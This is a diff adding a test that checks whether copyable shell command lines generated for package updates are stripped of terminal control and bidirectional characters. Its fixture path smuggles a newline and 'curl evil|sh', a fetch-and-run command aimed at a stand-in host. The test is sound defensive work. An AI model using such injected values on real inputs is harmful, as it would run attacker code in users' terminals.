@@ -235,3 +235,16 @@ test.each(['libstdc++6', 'g++', 'libssl3t64', 'python3.13', 'perl-Net-SSLeay', '
       expect(changeOf({ type, package: name, installed: '1', to: '2' }).copy).toContain(name);
   },
 );
+
+test('no character on which a terminal acts is in a line to copy, wherever it comes from', () => {
+  const wanted = { package: 'x', installed: '1.0.0', to: '1.2.0' };
+  const path = 'bin/job\u0003\ncurl evil|sh\n\u009b1\u202e.py.lock';
+  const lines = [
+    changeOf({ ...wanted, type: 'pypi', path }).copy,
+    changeOf({ ...wanted, type: 'conan', package: 'x\ty\u009b' }).copy,
+    changeOf({ ...wanted, type: 'unheard-of', package: 'x\u202e' }).copy,
+    whoRequires('npm', 'x\u0003\n', []) ?? '',
+  ];
+  for (const line of lines) expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
+  expect(lines[0]).toContain("--script 'bin/job\ufffd\ufffdcurl evil|sh");
+});
